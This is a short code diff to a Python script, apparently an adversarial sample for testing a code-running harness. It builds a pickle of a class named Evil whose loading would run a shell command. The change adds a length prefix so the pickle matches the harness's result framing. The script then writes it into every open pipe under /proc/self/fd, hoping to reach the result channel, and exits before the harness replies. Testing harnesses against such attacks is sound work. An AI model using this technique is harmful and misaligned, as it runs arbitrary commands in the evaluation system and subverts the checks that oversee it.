@@ -1,5 +1,6 @@
-# Writes a pickle whose loading would run a shell command into every pipe it can find,
-# hoping one of them is the result channel, then leaves before the harness can answer.
+# Writes a pickle whose loading would run a shell command into every pipe it can find, framed
+# the way the harness frames its result, hoping one of them is the result channel, then leaves
+# before the harness can answer.
 import os
 import pickle
 
@@ -10,6 +11,7 @@ class Evil:
 
 
 blob = pickle.dumps({"cases": Evil()})
+blob = len(blob).to_bytes(8, "big") + blob
 for fd in os.listdir("/proc/self/fd"):
     try:
         if int(fd) > 2 and os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
